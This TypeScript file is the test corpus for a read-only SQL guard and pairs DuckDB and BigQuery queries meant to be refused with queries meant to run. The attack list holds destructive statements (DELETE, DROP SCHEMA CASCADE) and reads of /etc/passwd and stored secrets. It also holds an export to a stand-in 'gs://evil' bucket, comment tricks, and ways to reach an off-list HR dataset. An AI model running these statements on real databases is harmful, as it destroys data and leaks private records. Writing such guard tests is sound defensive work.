/**
 * The guard's two corpora, shared by the in-process, BigQuery and stdio tests.
 *  - ATTACKS must be refused before anything runs: writes, DDL, scripts, file and network
 *    access, off-list datasets (directly, through a view, a CTE, a subquery, a table
 *    function), hidden metadata, comment and quoting tricks, the byte cap.
 *  - LEGITIMATE queries must all run: CTEs, window functions, UNNEST, subqueries, and
 *    literals or comments that contain words like DELETE.
 * Each entry has a DuckDB form (run against the demo estate, `retail` allowed, `hr` not)
 * and/or a BigQuery form (run against the fake estate in test/fakes/bigquery/retail-estate.ts).
 * `{dir}` in DuckDB SQL is replaced by a temporary directory the test checks stays empty.
 */

export interface CorpusEntry {
  name: string;
  duckdb?: string;
  bigquery?: string;
}

export const ATTACKS: CorpusEntry[] = [
  { name: 'DELETE', duckdb: 'DELETE FROM retail.sales', bigquery: 'DELETE FROM retail.sales WHERE true' },
  {
    name: 'UPDATE',
    duckdb: 'UPDATE retail.sales SET amount = 0',
    bigquery: 'UPDATE retail.sales SET amount = 0 WHERE true',
  },
  {
    name: 'INSERT … SELECT',
    duckdb: 'INSERT INTO retail.sales SELECT * FROM retail.sales',
    bigquery: 'INSERT INTO retail.sales SELECT * FROM retail.sales',
  },
  {
    name: 'MERGE',
    duckdb:
      'MERGE INTO retail.sales t USING retail.stores s ON t.store_id = s.store_id WHEN MATCHED THEN DELETE',
    bigquery:
      'MERGE retail.sales t USING retail.stores s ON t.store_id = s.store_id WHEN MATCHED THEN DELETE',
  },
  { name: 'TRUNCATE', duckdb: 'TRUNCATE retail.sales', bigquery: 'TRUNCATE TABLE retail.sales' },
  { name: 'DROP TABLE', duckdb: 'DROP TABLE retail.sales', bigquery: 'DROP TABLE retail.sales' },
  {
    name: 'CREATE TABLE AS SELECT',
    duckdb: 'CREATE TABLE retail.copy AS SELECT * FROM retail.sales',
    bigquery: 'CREATE TABLE retail.copy AS SELECT * FROM retail.sales',
  },
  {
    name: 'CREATE VIEW over an off-list dataset',
    duckdb: 'CREATE VIEW retail.pay AS SELECT * FROM hr.staff',
    bigquery: 'CREATE OR REPLACE VIEW retail.pay AS SELECT * FROM hr.staff',
  },
  {
    name: 'ALTER TABLE',
    duckdb: 'ALTER TABLE retail.sales ADD COLUMN note VARCHAR',
    bigquery: "ALTER TABLE retail.sales SET OPTIONS (description = 'mine')",
  },
  { name: 'CREATE SCHEMA', duckdb: 'CREATE SCHEMA evil', bigquery: 'CREATE SCHEMA evil' },
  { name: 'DROP SCHEMA', duckdb: 'DROP SCHEMA hr CASCADE', bigquery: 'DROP SCHEMA hr CASCADE' },
  {
    name: 'two statements, the second a write',
    duckdb: 'SELECT 1; DELETE FROM retail.sales',
    bigquery: 'SELECT 1; DELETE FROM retail.sales WHERE true',
  },
  { name: 'two harmless statements', duckdb: 'SELECT 1; SELECT 2', bigquery: 'SELECT 1; SELECT 2' },
  {
    name: 'comment hiding a DELETE behind a SELECT',
    duckdb: '/* SELECT */ DELETE FROM retail.sales -- SELECT',
    bigquery: '/* SELECT */ DELETE FROM retail.sales WHERE true -- SELECT',
  },
  {
    name: 'line comment before a DROP',
    duckdb: '-- SELECT * FROM retail.sales\nDROP TABLE retail.sales',
    bigquery: '-- SELECT * FROM retail.sales\nDROP TABLE retail.sales',
  },
  { name: 'off-list table', duckdb: 'SELECT * FROM hr.staff', bigquery: 'SELECT * FROM hr.staff' },
  {
    name: 'off-list table, quoted',
    duckdb: 'SELECT * FROM "hr"."staff"',
    bigquery: 'SELECT * FROM `kotae-test.hr.staff`',
  },
  {
    name: 'off-list table joined to an allowed one',
    duckdb: 'SELECT s.store_name, w.hourly_wage FROM retail.stores s JOIN hr.staff w USING (store_id)',
    bigquery:
      'SELECT s.store_name, w.hourly_wage FROM retail.stores s JOIN hr.staff w ON w.store_id = s.store_id',
  },
  {
    name: 'view in an allowed dataset over an off-list one',
    duckdb: 'SELECT * FROM retail.store_staffing',
    bigquery: 'SELECT * FROM retail.store_staffing',
  },
  {
    name: 'off-list table in a CTE',
    duckdb: 'WITH pay AS (SELECT * FROM hr.staff) SELECT count(*) FROM pay',
    bigquery: 'WITH pay AS (SELECT * FROM hr.staff) SELECT count(*) FROM pay',
  },
  {
    name: 'off-list table in a scalar subquery',
    duckdb: 'SELECT (SELECT max(monthly_salary) FROM hr.staff) AS top_pay',
    bigquery: 'SELECT (SELECT max(hourly_wage) FROM hr.staff) AS top_pay',
  },
  {
    name: 'off-list table with LIMIT 0 (schema only)',
    duckdb: 'SELECT * FROM hr.staff LIMIT 0',
    bigquery: 'SELECT * FROM hr.staff LIMIT 0',
  },
  {
    name: 'byte cap',
    duckdb: 'SELECT count(*) FROM retail.sales, range(1000000000000) AS r(i)',
    bigquery: 'SELECT * FROM retail.sales',
  },
  // DuckDB: files, network, extensions, settings, catalogue functions.
  { name: 'COPY TO a file', duckdb: "COPY retail.sales TO '{dir}/sales.csv'" },
  { name: 'COPY a query of an off-list table', duckdb: "COPY (SELECT * FROM hr.staff) TO '{dir}/staff.csv'" },
  { name: 'EXPORT DATABASE', duckdb: "EXPORT DATABASE '{dir}/export'" },
  { name: 'ATTACH another database', duckdb: "ATTACH '{dir}/other.duckdb' AS other" },
  { name: 'DETACH', duckdb: 'DETACH other' },
  { name: 'INSTALL an extension', duckdb: 'INSTALL httpfs' },
  { name: 'LOAD an extension', duckdb: 'LOAD httpfs' },
  { name: 'PRAGMA table_info of an off-list table', duckdb: "PRAGMA table_info('hr.staff')" },
  { name: 'PRAGMA show_tables', duckdb: 'PRAGMA show_tables' },
  { name: 'SET external access back on', duckdb: 'SET enable_external_access = true' },
  { name: 'SET lock_configuration off', duckdb: 'SET lock_configuration = false' },
  { name: 'USE another schema', duckdb: 'USE hr' },
  { name: 'CALL a procedure-like function', duckdb: 'CALL pragma_version()' },
  { name: 'CHECKPOINT', duckdb: 'CHECKPOINT' },
  { name: 'BEGIN a transaction', duckdb: 'BEGIN TRANSACTION' },
  { name: 'PREPARE a DELETE', duckdb: 'PREPARE wipe AS DELETE FROM retail.sales' },
  { name: 'CREATE MACRO', duckdb: 'CREATE MACRO twice(x) AS x * 2' },
  { name: 'read_csv of a file', duckdb: "SELECT * FROM read_csv('/etc/passwd')" },
  { name: 'read_parquet of a file', duckdb: "SELECT * FROM read_parquet('{dir}/x.parquet')" },
  { name: 'read_text of a file', duckdb: "SELECT * FROM read_text('/etc/hostname')" },
  { name: 'a file path as a table', duckdb: "SELECT * FROM '/etc/passwd'" },
  { name: 'glob the file system', duckdb: "SELECT * FROM glob('/*')" },
  { name: 'query() of an off-list table', duckdb: "SELECT * FROM query('SELECT * FROM hr.staff')" },
  { name: 'query_table() of an off-list table', duckdb: "SELECT * FROM query_table('hr.staff')" },
  { name: 'catalogue table function', duckdb: 'SELECT * FROM duckdb_tables()' },
  { name: 'pragma table function', duckdb: "SELECT * FROM pragma_table_info('hr.staff')" },
  { name: 'secrets table function', duckdb: 'SELECT * FROM duckdb_secrets()' },
  { name: 'DESCRIBE an off-list table', duckdb: 'DESCRIBE hr.staff' },
  { name: 'SHOW TABLES', duckdb: 'SHOW TABLES' },
  { name: 'SUMMARIZE an off-list table', duckdb: 'SUMMARIZE hr.staff' },
  { name: 'Kotae metadata schema', duckdb: 'SELECT * FROM _kotae.meta' },
  // BigQuery: scripts, procedures, exports, metadata, federation.
  {
    name: 'EXPORT DATA',
    bigquery: "EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT * FROM retail.sales",
  },
  {
    name: 'LOAD DATA',
    bigquery: "LOAD DATA INTO retail.sales FROM FILES (format = 'CSV', uris = ['gs://evil/x.csv'])",
  },
  { name: 'CALL a procedure', bigquery: 'CALL retail.cleanup()' },
  { name: 'EXECUTE IMMEDIATE', bigquery: "EXECUTE IMMEDIATE 'DELETE FROM retail.sales WHERE true'" },
  { name: 'DECLARE script', bigquery: 'DECLARE n INT64 DEFAULT 1; SELECT n' },
  { name: 'BEGIN … END block', bigquery: 'BEGIN SELECT 1; END' },
  { name: 'IF script', bigquery: 'IF TRUE THEN SELECT 1; END IF' },
  { name: 'temporary function script', bigquery: 'CREATE TEMP FUNCTION f() AS (1); SELECT f()' },
  {
    name: 'GRANT',
    bigquery: "GRANT `roles/bigquery.dataViewer` ON TABLE retail.sales TO 'user:eve@example.com'",
  },
  { name: 'ASSERT', bigquery: 'ASSERT (SELECT count(*) FROM retail.sales) > 0' },
  { name: 'persistent function', bigquery: 'CREATE FUNCTION retail.twice(x INT64) AS (x * 2)' },
  {
    name: 'materialised view over an off-list dataset',
    bigquery: 'CREATE MATERIALIZED VIEW retail.pay AS SELECT * FROM hr.staff',
  },
  { name: 'SET a system variable', bigquery: "SET @@dataset_id = 'hr'" },
  { name: 'another project', bigquery: 'SELECT * FROM `other-project.hr.staff`' },
  { name: 'a public dataset', bigquery: 'SELECT * FROM `bigquery-public-data.samples.shakespeare`' },
  {
    name: 'region INFORMATION_SCHEMA.JOBS',
    bigquery: 'SELECT query FROM `region-asia-northeast1`.INFORMATION_SCHEMA.JOBS',
  },
  {
    name: 'project-qualified region INFORMATION_SCHEMA',
    bigquery: 'SELECT * FROM `kotae-test.region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`',
  },
  {
    name: 'INFORMATION_SCHEMA of an off-list dataset',
    bigquery: 'SELECT * FROM hr.INFORMATION_SCHEMA.COLUMNS',
  },
  {
    name: 'EXTERNAL_QUERY',
    bigquery: "SELECT * FROM EXTERNAL_QUERY('kotae-test.asia-northeast1.crm', 'SELECT * FROM customers')",
  },
];

export const LEGITIMATE: CorpusEntry[] = [
  {
    name: 'a total',
    duckdb: 'SELECT sum(amount) FROM retail.sales',
    bigquery: 'SELECT SUM(amount) FROM retail.sales_small',
  },
  {
    name: 'top stores',
    duckdb:
      'SELECT store_id, sum(amount) AS amount FROM retail.sales GROUP BY store_id ORDER BY amount DESC LIMIT 10',
    bigquery:
      'SELECT store_id, SUM(amount) AS amount FROM retail.sales_small GROUP BY store_id ORDER BY amount DESC LIMIT 10',
  },
  {
    name: 'monthly CTE',
    duckdb:
      "WITH monthly AS (SELECT date_trunc('month', sale_date) AS month, sum(amount) AS amount FROM retail.sales GROUP BY 1) SELECT * FROM monthly ORDER BY month",
    bigquery:
      'WITH monthly AS (SELECT DATE_TRUNC(sale_date, MONTH) AS month, SUM(amount) AS amount FROM retail.sales_small GROUP BY 1) SELECT * FROM monthly ORDER BY month',
  },
  {
    name: 'chained CTEs',
    duckdb:
      'WITH s AS (SELECT store_id, sum(amount) AS a FROM retail.sales GROUP BY 1), t AS (SELECT store_id, sum(target_amount) AS t FROM retail.store_targets GROUP BY 1) SELECT s.store_id, s.a / t.t AS achievement FROM s JOIN t USING (store_id) ORDER BY 2 DESC',
    bigquery:
      'WITH s AS (SELECT store_id, SUM(amount) AS a FROM retail.sales_small GROUP BY 1), t AS (SELECT store_id, COUNT(*) AS n FROM retail.stores GROUP BY 1) SELECT s.store_id, s.a / t.n FROM s JOIN t USING (store_id)',
  },
  {
    name: 'rolling window',
    duckdb:
      "SELECT store_id, sale_date, sum(amount) OVER (PARTITION BY store_id ORDER BY sale_date ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS week FROM retail.sales WHERE category_code = 'FOOD' AND sale_date >= DATE '2026-10-01'",
    bigquery:
      'SELECT store_id, sale_date, SUM(amount) OVER (PARTITION BY store_id ORDER BY sale_date ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS week FROM retail.sales_small',
  },
  {
    name: 'rank in a subquery',
    duckdb:
      'SELECT * FROM (SELECT store_id, sum(amount) AS a, rank() OVER (ORDER BY sum(amount) DESC) AS r FROM retail.sales GROUP BY store_id) WHERE r <= 5',
    bigquery:
      'SELECT * FROM (SELECT store_id, SUM(amount) AS a, RANK() OVER (ORDER BY SUM(amount) DESC) AS r FROM retail.sales_small GROUP BY store_id) WHERE r <= 5',
  },
  {
    name: 'QUALIFY',
    duckdb:
      'SELECT store_id, category_code, sum(amount) AS a FROM retail.sales GROUP BY store_id, category_code QUALIFY row_number() OVER (PARTITION BY store_id ORDER BY a DESC) = 1',
    bigquery:
      'SELECT store_id, sale_date, amount FROM retail.sales_small WHERE TRUE QUALIFY ROW_NUMBER() OVER (PARTITION BY store_id ORDER BY amount DESC) = 1',
  },
  {
    name: 'LAG year over year',
    duckdb:
      'SELECT y, a, a / lag(a) OVER (ORDER BY y) - 1 AS growth FROM (SELECT year(sale_date) AS y, sum(amount) AS a FROM retail.sales GROUP BY 1) ORDER BY y',
    bigquery:
      'SELECT y, a, a / LAG(a) OVER (ORDER BY y) - 1 AS growth FROM (SELECT EXTRACT(YEAR FROM sale_date) AS y, SUM(amount) AS a FROM retail.sales_small GROUP BY 1)',
  },
  {
    name: 'IN subquery',
    duckdb:
      'SELECT store_name FROM retail.stores WHERE store_id IN (SELECT store_id FROM retail.sales WHERE amount > 3000000)',
    bigquery:
      'SELECT store_name FROM retail.stores WHERE store_id IN (SELECT store_id FROM retail.sales_small WHERE amount > 100000)',
  },
  {
    name: 'correlated EXISTS',
    duckdb:
      "SELECT s.store_name FROM retail.stores s WHERE EXISTS (SELECT 1 FROM retail.orders o WHERE o.store_id = s.store_id AND o.channel = 'EC')",
    bigquery:
      'SELECT s.store_name FROM retail.stores s WHERE EXISTS (SELECT 1 FROM retail.sales_small o WHERE o.store_id = s.store_id)',
  },
  {
    name: 'scalar subquery',
    duckdb: 'SELECT (SELECT count(*) FROM retail.stores) AS stores',
    bigquery: 'SELECT (SELECT COUNT(*) FROM retail.stores) AS stores',
  },
  {
    name: 'three-table join by region',
    duckdb:
      'SELECT p.region, sum(s.amount) AS amount FROM retail.sales s JOIN retail.stores st USING (store_id) JOIN retail.prefectures p USING (prefecture_code) GROUP BY p.region ORDER BY amount DESC',
    bigquery:
      'SELECT st.prefecture, SUM(s.amount) AS amount FROM retail.sales_small s JOIN retail.stores st ON st.store_id = s.store_id GROUP BY 1',
  },
  {
    name: 'LEFT JOIN with COALESCE',
    duckdb:
      "SELECT st.store_name, coalesce(sum(o.total_amount), 0) AS ec FROM retail.stores st LEFT JOIN retail.orders o ON o.store_id = st.store_id AND o.channel = 'EC' GROUP BY 1",
    bigquery:
      'SELECT st.store_name, COALESCE(SUM(s.amount), 0) AS a FROM retail.stores st LEFT JOIN retail.sales_small s ON s.store_id = st.store_id GROUP BY 1',
  },
  {
    name: 'UNION ALL',
    duckdb:
      "SELECT 'EC' AS channel, count(*) FROM retail.orders WHERE channel = 'EC' UNION ALL SELECT 'store', count(*) FROM retail.orders WHERE channel = '店舗'",
    bigquery: 'SELECT 1 AS n UNION ALL SELECT COUNT(*) FROM retail.stores',
  },
  {
    name: 'EXCEPT',
    duckdb: 'SELECT store_id FROM retail.stores EXCEPT SELECT DISTINCT store_id FROM retail.sales',
    bigquery: 'SELECT store_id FROM retail.stores EXCEPT DISTINCT SELECT store_id FROM retail.sales_small',
  },
  {
    name: 'CASE buckets',
    duckdb:
      "SELECT CASE WHEN unit_price < 500 THEN 'low' WHEN unit_price < 1500 THEN 'mid' ELSE 'high' END AS band, count(*) FROM retail.products GROUP BY 1",
    bigquery:
      "SELECT CASE WHEN amount < 100000 THEN 'low' ELSE 'high' END AS band, COUNT(*) FROM retail.sales_small GROUP BY 1",
  },
  {
    name: 'a string literal saying DELETE',
    duckdb: "SELECT 'DELETE FROM retail.sales' AS note",
    bigquery: "SELECT 'DELETE FROM retail.sales' AS note",
  },
  {
    name: 'a string literal with a semicolon and a DROP',
    duckdb: "SELECT 'a; DROP TABLE retail.sales' AS note",
    bigquery: "SELECT 'a; DROP TABLE retail.sales' AS note",
  },
  {
    name: 'a line comment saying DROP',
    duckdb: 'SELECT 1 AS one -- DROP TABLE retail.sales',
    bigquery: 'SELECT 1 AS one -- DROP TABLE retail.sales',
  },
  {
    name: 'a block comment saying INSERT',
    duckdb: '/* INSERT INTO retail.sales */ SELECT count(*) FROM retail.orders',
    bigquery: '/* INSERT INTO retail.sales */ SELECT COUNT(*) FROM retail.stores',
  },
  {
    name: 'a column called delete',
    duckdb: 'SELECT amount AS "delete" FROM retail.sales LIMIT 1',
    bigquery: 'SELECT amount AS `delete` FROM retail.sales_small LIMIT 1',
  },
  {
    name: 'LIKE a write keyword',
    duckdb: "SELECT count(*) FROM retail.products WHERE product_name_en LIKE '%UPDATE%'",
    bigquery: "SELECT COUNT(*) FROM retail.stores WHERE store_name LIKE '%UPDATE%'",
  },
  {
    name: 'UNNEST an array',
    duckdb: 'SELECT x FROM unnest([1, 2, 3]) AS t(x)',
    bigquery: 'SELECT x FROM UNNEST([1, 2, 3]) AS x',
  },
  {
    name: 'UNNEST a series',
    duckdb: 'SELECT n FROM generate_series(1, 5) AS t(n)',
    bigquery: 'SELECT n FROM UNNEST(GENERATE_ARRAY(1, 5)) AS n',
  },
  { name: 'range()', duckdb: 'SELECT sum(i) FROM range(100) AS t(i)' },
  {
    name: 'date arithmetic',
    duckdb: "SELECT DATE '2026-10-01' - INTERVAL 1 MONTH AS last_month",
    bigquery: "SELECT DATE_SUB(DATE '2026-10-01', INTERVAL 1 MONTH) AS last_month",
  },
  {
    name: 'EXTRACT',
    duckdb: 'SELECT EXTRACT(YEAR FROM sale_date) AS y, count(*) FROM retail.sales GROUP BY 1',
    bigquery: 'SELECT EXTRACT(YEAR FROM sale_date) AS y, COUNT(*) FROM retail.sales_small GROUP BY 1',
  },
  {
    name: 'HAVING',
    duckdb: 'SELECT store_id, sum(amount) FROM retail.sales GROUP BY store_id HAVING sum(amount) > 1e9',
    bigquery:
      'SELECT store_id, SUM(amount) FROM retail.sales_small GROUP BY store_id HAVING SUM(amount) > 200000',
  },
  {
    name: 'COUNT DISTINCT',
    duckdb: 'SELECT count(DISTINCT customer_id) FROM retail.orders',
    bigquery: 'SELECT COUNT(DISTINCT store_id) FROM retail.sales_small',
  },
  {
    name: 'median',
    duckdb: 'SELECT quantile_cont(total_amount, 0.5) FROM retail.orders',
    bigquery: 'SELECT APPROX_QUANTILES(amount, 100)[OFFSET(50)] FROM retail.sales_small',
  },
  {
    name: 'recursive CTE',
    duckdb:
      'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT sum(i) FROM n',
    bigquery:
      'WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT SUM(i) FROM n',
  },
  {
    name: 'VALUES list',
    duckdb: "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS t(n, s)",
    bigquery: "SELECT * FROM UNNEST([STRUCT(1 AS n, 'a' AS s), STRUCT(2, 'b')])",
  },
  { name: 'trailing semicolon', duckdb: 'SELECT 1;', bigquery: 'SELECT 1;' },
  {
    name: 'lower case',
    duckdb: 'select count(*) from retail.customers',
    bigquery: 'select count(*) from retail.stores',
  },
  {
    name: 'leading comment and blank lines',
    duckdb: '\n\n  -- top members\n  SELECT member_rank, count(*) FROM retail.customers GROUP BY 1',
    bigquery: '\n\n  -- stores\n  SELECT COUNT(*) FROM retail.stores',
  },
  {
    name: 'FROM first',
    duckdb: 'FROM retail.stores SELECT store_name LIMIT 3',
    bigquery: 'FROM retail.stores |> SELECT store_name',
  },
  {
    name: 'a view inside the allowed dataset',
    duckdb: 'SELECT * FROM retail.monthly_store_sales ORDER BY sales_month DESC LIMIT 5',
    bigquery: 'SELECT * FROM retail.stores_view',
  },
  {
    name: 'PIVOT with an IN list',
    duckdb: "PIVOT retail.sales ON category_code IN ('FOOD', 'BEV') USING sum(amount) GROUP BY store_id",
    bigquery:
      "SELECT * FROM (SELECT store_id, amount, 'x' AS k FROM retail.sales_small) PIVOT (SUM(amount) FOR k IN ('x'))",
  },
  {
    name: 'list lambda',
    duckdb: 'SELECT list_transform([1, 2, 3], x -> x * 2) AS doubled',
    bigquery: 'SELECT ARRAY(SELECT x * 2 FROM UNNEST([1, 2, 3]) AS x) AS doubled',
  },
  { name: 'current date', duckdb: 'SELECT current_date', bigquery: 'SELECT CURRENT_DATE()' },
  {
    name: 'quoted identifiers',
    duckdb: 'SELECT "amount" FROM "retail"."sales" LIMIT 1',
    bigquery: 'SELECT `amount` FROM `kotae-test.retail.sales_small` LIMIT 1',
  },
  {
    name: 'ROLLUP',
    duckdb:
      'SELECT store_format, channel, count(*) FROM retail.orders JOIN retail.stores USING (store_id) GROUP BY ROLLUP (store_format, channel)',
    bigquery:
      'SELECT store_id, sale_date, SUM(amount) FROM retail.sales_small GROUP BY ROLLUP (store_id, sale_date)',
  },
  {
    name: 'average spend',
    duckdb: 'SELECT round(sum(amount) / sum(receipt_count), 0) AS average_spend FROM retail.sales',
    bigquery: 'SELECT ROUND(SUM(amount) / COUNT(*), 0) FROM retail.sales_small',
  },
  {
    name: 'Japanese alias',
    duckdb: 'SELECT sum(amount) AS 売上 FROM retail.sales',
    bigquery: 'SELECT SUM(amount) AS `売上` FROM retail.sales_small',
  },
  {
    name: 'a literal mentioning metadata and federation',
    duckdb: "SELECT 'INFORMATION_SCHEMA.JOBS EXTERNAL_QUERY(' AS s",
    bigquery: "SELECT 'region-us.INFORMATION_SCHEMA.JOBS EXTERNAL_QUERY(' AS s",
  },
  { name: 'a # comment', bigquery: '# region-us.INFORMATION_SCHEMA.JOBS\nSELECT 1' },
  {
    name: "an allowed dataset's INFORMATION_SCHEMA",
    bigquery: 'SELECT table_name FROM retail.INFORMATION_SCHEMA.TABLES',
  },
];

export function forBackend(
  corpus: CorpusEntry[],
  backend: 'duckdb' | 'bigquery',
): Array<{ name: string; sql: string }> {
  return corpus.flatMap((entry) => (entry[backend] ? [{ name: entry.name, sql: entry[backend] }] : []));
}
